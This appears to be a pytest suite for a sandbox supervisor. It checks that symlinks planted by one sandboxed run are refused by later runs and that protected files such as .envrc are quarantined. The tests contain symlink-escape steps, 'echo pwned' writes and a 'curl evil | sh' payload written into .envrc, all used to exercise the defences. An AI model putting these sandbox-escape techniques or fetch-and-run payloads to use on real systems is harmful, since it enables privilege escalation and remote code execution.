"""Symlinks planted for a later sandbox: a writable root or workdir that an earlier sandbox made a link.

A sandbox that may write W can turn a path that a later policy uses as a writable root or workdir (a `build/`
that does not exist yet, a subdirectory another policy works in, a component on the way to one) into a
symlink to a host directory. Followed, the next sandbox would get write access to the link's target (as uid
0 under a root caller). Each test plants the link from inside a first sandbox, then checks that the second
run is refused with SandboxSetupError (the CLI: exit 125, one line) and, from outside, that nothing was
written to the target. The targets are scratch directories standing in for /etc, plus one real /etc link
that the second run only tests for existence.
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
import uuid
from collections.abc import Iterator
from pathlib import Path

import anyio
import pytest

from policies import FilesystemPolicy, Policy, PolicyError, ResourcePolicy, profiles
from supervisor import PIPE, SandboxSetupError, Supervisor
from tests.kernel.test_attack_filesystem import tree_state

pytestmark = pytest.mark.kernel

SH = "/bin/sh"
CORRAL = [sys.executable, "-m", "supervisor.cli"]


async def sh(sup: Supervisor, pol: Policy, script: str) -> None:
    """Run `script` in a sandbox under `pol`; it must succeed (the planting run)."""
    r = await sup.run([SH, "-c", script], policy=pol)
    assert r.exit_code == 0, r.stderr.decode()


async def refused(sup: Supervisor, pol: Policy, script: str) -> SandboxSetupError:
    """Run `script` under `pol`: the sandbox must not start; return the error."""
    with pytest.raises(SandboxSetupError) as info:
        await sup.run([SH, "-c", script], policy=pol)
    assert info.value.errno == 40, str(info.value)  # ELOOP: a symlink where none may be
    assert "symlink" in str(info.value)
    return info.value


@pytest.fixture
def other() -> Iterator[Path]:
    """A second project directory (another policy's workdir)."""
    d = Path("/var/tmp/corral-tests") / f"other-{uuid.uuid4().hex[:10]}"
    d.mkdir(mode=0o755, parents=True)
    yield d
    shutil.rmtree(d, ignore_errors=True)


async def test_a_future_writable_root_planted_as_a_symlink_is_refused(
    sup: Supervisor, workspace: Path, outside: Path
) -> None:
    before = tree_state(outside)
    build = workspace / "build"  # does not exist when the policy is made
    pol = profiles.workspace_write(workspace, allow_write=[build], timeout=20)
    await sh(sup, pol, f"ln -s {outside} build")
    assert build.is_symlink()
    err = await refused(sup, pol, "echo pwned > build/x; echo pwned > build/canary.txt")
    assert err.path is not None
    assert err.path.startswith(str(build))
    # The same policy made again now, with the link already there, is refused too.
    again = profiles.workspace_write(workspace, allow_write=[build], timeout=20)
    await refused(sup, again, "echo pwned > build/x")
    assert tree_state(outside) == before


async def test_another_policys_workdir_planted_as_a_symlink_is_refused(
    sup: Supervisor, workspace: Path, outside: Path
) -> None:
    before = tree_state(outside)
    (workspace / "sub").mkdir()
    first = profiles.workspace_write(workspace, timeout=20)
    second = profiles.workspace_write(workspace / "sub", timeout=20)  # made while sub is a directory
    await sh(sup, first, f"rmdir sub && ln -s {outside} sub")
    await refused(sup, second, "echo pwned > x; echo pwned > canary.txt")
    # Made after the link was planted (as the CLI makes its policy at each run): refused as well.
    later = profiles.workspace_write(workspace / "sub", timeout=20)
    assert later.workdir == str(workspace / "sub")
    await refused(sup, later, "echo pwned > x")
    assert tree_state(outside) == before


async def test_an_allow_write_directory_replaced_by_a_symlink_is_refused(
    sup: Supervisor, workspace: Path, other: Path, outside: Path
) -> None:
    before = tree_state(outside)
    cache = workspace / "cache"
    cache.mkdir()
    first = profiles.workspace_write(workspace, timeout=20)
    second = profiles.workspace_write(other, allow_write=[cache], timeout=20)
    await sh(sup, second, f"echo ok > {cache}/probe")  # control: the root works while it is a directory
    assert (cache / "probe").read_text() == "ok\n"
    await sh(sup, first, f"rm -r cache && ln -s {outside} cache")
    await refused(sup, second, f"echo pwned > {cache}/x; echo pwned > {cache}/canary.txt")
    assert tree_state(outside) == before


async def test_an_intermediate_component_replaced_by_a_symlink_is_refused(
    sup: Supervisor, workspace: Path, other: Path, outside: Path
) -> None:
    (outside / "b").mkdir()
    before = tree_state(outside)
    (workspace / "a" / "b").mkdir(parents=True)
    first = profiles.workspace_write(workspace, timeout=20)
    second = profiles.workspace_write(other, allow_write=[workspace / "a" / "b"], timeout=20)
    await sh(sup, first, f"mv a a.old && ln -s {outside} a")
    await refused(sup, second, f"echo pwned > {workspace}/a/b/x")
    # A workdir reached through the planted component: refused too.
    await refused(sup, profiles.workspace_write(workspace / "a" / "b", timeout=20), "echo pwned > x")
    assert tree_state(outside) == before


@pytest.fixture
def under_tmp() -> Iterator[Path]:
    """A project directory in the host's /tmp, with a subdirectory `sub`."""
    base = Path(f"/tmp/corral-paths-{uuid.uuid4().hex[:10]}")
    (base / "sub").mkdir(parents=True)
    yield base
    shutil.rmtree(base, ignore_errors=True)


async def test_a_workdir_under_tmp_planted_as_a_symlink_is_refused(
    sup: Supervisor, under_tmp: Path, outside: Path
) -> None:
    # Roots under /tmp take another route (opened before the private /tmp hides them, then bound back).
    before = tree_state(outside)
    second = profiles.workspace_write(under_tmp / "sub", timeout=20)
    await sh(sup, profiles.workspace_write(under_tmp, timeout=20), f"rmdir sub && ln -s {outside} sub")
    await refused(sup, second, "echo pwned > x")
    assert tree_state(outside) == before


async def test_a_planted_link_to_the_real_etc_is_refused(sup: Supervisor, workspace: Path) -> None:
    # The second run only tests for existence: nothing is ever written to /etc, even if this failed.
    etc_before = sorted(os.listdir("/etc"))
    pol = profiles.workspace_write(workspace, allow_write=[workspace / "conf"], timeout=20)
    await sh(sup, pol, "ln -s /etc conf")
    # Refused either by the system-directory check, which sees through the link (PolicyError), or by the
    # init, which does not follow it (SandboxSetupError); never run.
    with pytest.raises((PolicyError, SandboxSetupError)):
        await sup.run([SH, "-c", "test -e conf/passwd && echo reachable"], policy=pol)
    later = profiles.workspace_write(workspace / "conf", timeout=20)
    with pytest.raises((PolicyError, SandboxSetupError)):
        await sup.run([SH, "-c", "test -e passwd && echo reachable"], policy=later)
    assert sorted(os.listdir("/etc")) == etc_before


async def test_a_readable_root_replaced_by_a_symlink_is_refused(
    sup: Supervisor, workspace: Path, other: Path, outside: Path
) -> None:
    # Reads too: under a policy that reads only some roots, a root turned into a link would let the next
    # sandbox read the link's target (the Landlock rule was opened through the link).
    secret = f"TOPSECRET-{uuid.uuid4().hex}"
    (outside / "secret.txt").write_text(secret)
    (workspace / "data").mkdir()
    (workspace / "data" / "public.txt").write_text("public\n")
    system = ("/usr", "/bin", "/lib", "/lib64", "/etc")
    narrow = Policy(
        workdir=str(other),
        filesystem=FilesystemPolicy(read=(*system, str(workspace / "data")), write=(str(other),), deny=()),
        resources=ResourcePolicy(timeout=20),
    )
    r = await sup.run([SH, "-c", f"cat {workspace}/data/public.txt"], policy=narrow)
    assert r.stdout == b"public\n", r.stderr  # control: the readable root works while it is a directory
    await sh(sup, profiles.workspace_write(workspace, timeout=20), f"rm -r data && ln -s {outside} data")
    await refused(sup, narrow, f"cat {workspace}/data/secret.txt")


def corral(*args: str, cwd: Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run([*CORRAL, *args], cwd=cwd, capture_output=True, text=True, timeout=60, check=False)


def test_cli_refuses_a_planted_writable_root_and_workdir(workspace: Path, outside: Path) -> None:
    before = tree_state(outside)
    build = str(workspace / "build")
    first = corral("run", "--allow-write", build, "--", SH, "-c", f"ln -s {outside} build", cwd=workspace)
    assert first.returncode == 0, first.stderr
    second = corral("run", "--allow-write", build, "--", SH, "-c", "echo pwned > build/x", cwd=workspace)
    assert second.returncode == 125, second.stderr
    assert len(second.stderr.strip().splitlines()) == 1, second.stderr
    assert "symlink" in second.stderr
    third = corral("run", "--workdir", build, "--", SH, "-c", "echo pwned > x", cwd=workspace)
    assert third.returncode == 125, third.stderr
    assert len(third.stderr.strip().splitlines()) == 1, third.stderr
    assert tree_state(outside) == before


def _protecting(workspace: Path, *names: str) -> Policy:
    pol = profiles.workspace_write(workspace, timeout=20)
    fs = pol.filesystem
    return Policy(
        workdir=pol.workdir,
        profile=pol.profile,
        filesystem=FilesystemPolicy(
            read=fs.read, write=fs.write, deny=fs.deny, protected=(*fs.protected, *names), execute=fs.execute
        ),
        resources=ResourcePolicy(timeout=20),
    )


async def test_a_custom_protected_path_and_a_symlink_planted_in_its_place(
    sup: Supervisor, workspace: Path
) -> None:
    # `protected = ["scripts"]`: kept read-only (checked from outside: the write did not land); replaced by a
    # symlink by a run of another policy, the next run is refused naming it, not bound onto the link's target.
    (workspace / "scripts").mkdir()
    pol = _protecting(workspace, "scripts")
    r = await sup.run(["/bin/sh", "-c", "echo x > scripts/a"], policy=pol)
    assert r.exit_code != 0
    assert not (workspace / "scripts" / "a").exists()
    await sh(sup, profiles.workspace_write(workspace, timeout=20), "rmdir scripts && ln -s /tmp scripts")
    with pytest.raises(SandboxSetupError) as info:
        await sup.run(["/bin/true"], policy=pol)
    assert str(workspace / "scripts") in str(info.value)


async def test_a_protected_path_missing_at_the_start_is_moved_aside_after_the_run(
    sup: Supervisor, workspace: Path
) -> None:
    # `protected = [".envrc"]` in a checkout without one: a mount cannot cover the missing name, so the
    # command can create it; after the run it is moved out of the way (what direnv on the host would run is
    # gone from its name) and reported, its content kept for the user to review.
    pol = _protecting(workspace, ".envrc")
    r = await sup.run(["/bin/sh", "-c", "echo 'curl evil | sh' > .envrc"], policy=pol)
    assert r.exit_code == 0, r.stderr.decode()
    assert not (workspace / ".envrc").exists()
    aside = workspace / ".envrc.corral-quarantined"
    assert aside.read_text() == "curl evil | sh\n"
    assert [p for p, _ in r.quarantined] == [str(workspace / ".envrc")]
    assert "filesystem.protected" in r.quarantined[0][1]
    # An .envrc that exists when the sandbox starts is bound read-only, and kept after the run.
    (workspace / ".envrc").write_text("export A=1\n")
    r = await sup.run(["/bin/sh", "-c", "echo x >> .envrc; cat .envrc"], policy=pol)
    assert r.stdout == b"export A=1\n"
    assert (workspace / ".envrc").read_text() == "export A=1\n"
    assert r.quarantined == ()


@pytest.mark.parametrize(
    "script",
    [
        # the protected file's missing directory made by the command
        "mkdir -p scripts && echo evil > scripts/run.sh",
        # a symlink at the missing name (to a directory the command filled elsewhere in the root)
        "mkdir -p x && echo evil > x/run.sh && ln -s x scripts",
        # the protected file missing in a directory that exists: the directory replaced by the command
        "mkdir -p tools && mv tools tools.old && mkdir -p tools/bin && echo evil > tools/bin/lint",
    ],
)
async def test_protected_paths_created_through_their_directories_are_moved_aside(
    sup: Supervisor, workspace: Path, script: str
) -> None:
    pol = _protecting(workspace, "scripts/run.sh", "tools/bin/lint")
    r = await sup.run(["/bin/sh", "-c", script], policy=pol)
    assert r.exit_code == 0, r.stderr.decode()
    for rel in ("scripts/run.sh", "tools/bin/lint"):
        assert not (workspace / rel).exists(), rel
    assert r.quarantined, "nothing reported"
    assert all("filesystem.protected" in why for _, why in r.quarantined)


async def test_the_directories_above_an_existing_protected_path_cannot_be_renamed(
    sup: Supervisor, workspace: Path
) -> None:
    # `tools/bin/lint` exists: it is bound read-only, and `tools/bin`, which holds that mount point, could be
    # renamed away (a directory holding a mount point may be) and made anew with another `lint`, unprotected.
    # Every directory between the root and the protected path is pinned: EBUSY.
    (workspace / "tools" / "bin").mkdir(parents=True)
    (workspace / "tools" / "bin" / "lint").write_text("ok\n")
    pol = _protecting(workspace, "tools/bin/lint")
    script = "mv tools/bin tools/bin2; mkdir -p tools/bin; echo evil > tools/bin/lint; cat tools/bin/lint"
    r = await sup.run(["/bin/sh", "-c", script], policy=pol)
    assert r.stdout == b"ok\n", r.stderr.decode()
    assert b"busy" in r.stderr.lower(), r.stderr.decode()
    assert (workspace / "tools" / "bin" / "lint").read_text() == "ok\n"
    assert not (workspace / "tools" / "bin2").exists()


def test_corral_run_moves_a_created_protected_path_aside_and_says_so(workspace: Path) -> None:
    policy = workspace.parent / f"protect-{uuid.uuid4().hex[:8]}.toml"
    policy.write_text(
        f'workdir = "{workspace}"\n[filesystem]\nwrite = ["{workspace}"]\n'
        'protected = [".git/hooks", ".git/config", ".envrc"]\n'
    )
    try:
        out = workspace.parent / f"protect-{uuid.uuid4().hex[:8]}.json"
        res = corral(
            "run", "--policy", policy, "--json", out, "--", SH, "-c", "echo evil > .envrc", cwd=workspace
        )
        assert res.returncode == 0, res.stderr
        assert "moved to .envrc.corral-quarantined" in res.stderr
        assert not (workspace / ".envrc").exists()
        record = json.loads(out.read_text())
        assert [q["path"] for q in record["quarantined"]] == [str(workspace / ".envrc")]
    finally:
        policy.unlink(missing_ok=True)
        out.unlink(missing_ok=True)


@pytest.mark.xfail(
    strict=True,
    reason=(
        "GAP: a protected path that does not exist when the sandbox starts is not protected DURING the "
        "run: a mount can only cover a name that exists, so the command creates it (moved aside after the "
        "run), and a tool on the host reading it meanwhile (direnv in a shell in that directory) runs it"
    ),
)
async def test_a_protected_path_missing_at_the_start_cannot_be_created_during_the_run(
    sup: Supervisor, workspace: Path
) -> None:
    pol = _protecting(workspace, ".envrc")
    script = "echo evil > .envrc; echo ready; sleep 10"
    async with await sup.start(["/bin/sh", "-c", script], policy=pol, stdout=PIPE) as child:
        assert child.stdout is not None
        with anyio.fail_after(10):
            await child.stdout.receive()  # "ready": the command has tried
        seen = (workspace / ".envrc").exists()
        child.kill()
        await child.wait()
    assert not seen


async def test_a_created_protected_directory_is_moved_aside_whatever_names_the_command_took(
    sup: Supervisor, workspace: Path
) -> None:
    # `protected = ["scripts"]` without one: the command makes `scripts/` with a run.sh, and takes every
    # name the move aside tried (`scripts.corral-quarantined`, `....1` to `....9`) with non-empty
    # directories, which a rename cannot replace and an unlink cannot remove: the protected path must
    # still not stay where it was.
    pol = _protecting(workspace, "scripts")
    taken = " ".join(f"scripts.corral-quarantined{'.' + str(i) if i else ''}/x" for i in range(10))
    script = f"mkdir -p scripts {taken} && echo evil > scripts/run.sh"
    r = await sup.run(["/bin/sh", "-c", script], policy=pol)
    assert r.exit_code == 0, r.stderr.decode()
    assert not (workspace / "scripts").exists(), r.quarantined
    assert [p for p, _ in r.quarantined] == [str(workspace / "scripts")]
    assert "moved to scripts.corral-quarantined." in r.quarantined[0][1], r.quarantined


async def test_what_the_command_made_beside_a_missing_protected_path_stays(
    sup: Supervisor, workspace: Path
) -> None:
    # `protected = [".vscode/tasks.json"]` without a `.vscode/`: an editor's `.vscode/settings.json` made by
    # the command is its own; only the protected path is moved aside, not the directory it made.
    pol = _protecting(workspace, ".vscode/tasks.json")
    r = await sup.run(["/bin/sh", "-c", "mkdir .vscode && echo '{}' > .vscode/settings.json"], policy=pol)
    assert r.exit_code == 0, r.stderr.decode()
    assert (workspace / ".vscode" / "settings.json").read_text() == "{}\n"
    assert r.quarantined == ()
    r = await sup.run(["/bin/sh", "-c", "echo evil > .vscode/tasks.json"], policy=pol)
    assert r.exit_code == 0, r.stderr.decode()
    assert not (workspace / ".vscode" / "tasks.json").exists()
    assert [p for p, _ in r.quarantined] == [str(workspace / ".vscode" / "tasks.json")]
    assert (workspace / ".vscode" / "settings.json").exists()
